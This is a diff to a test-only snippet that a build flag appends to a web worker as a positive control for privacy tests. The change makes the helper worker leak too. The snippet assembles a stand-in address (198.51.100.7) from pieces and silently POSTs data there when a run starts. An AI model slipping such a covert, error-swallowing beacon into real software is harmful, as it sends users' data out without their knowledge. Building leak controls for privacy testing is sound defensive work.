@@ -1,10 +1,11 @@
 // TEST-ONLY, appended to the worker by `OLINPE_TEST_LEAK=fetch node scripts/build-page.mjs`
-// (never in the production page): when a run starts, the worker tries to send data out.
-// The privacy tests must catch it (positive control). OLINPE_TEST_LEAK_CODE
+// (never in the production page): when a run starts, the worker tries to send data out, and
+// so does the helper worker (the same script) when it is given its role. The privacy tests
+// must catch both (positive control). OLINPE_TEST_LEAK_CODE
 (function () {
   var target = ['http:', '', '198.51.100.7', 'olinpe-leak'].join('/');
   self.addEventListener('message', function (e) {
-    if (e.data && e.data.type === 'start') {
+    if (e.data && (e.data.type === 'start' || e.data.type === 'helper')) {
       fetch(target, { method: 'POST', body: 'fuite' }).catch(function () {});
     }
   });
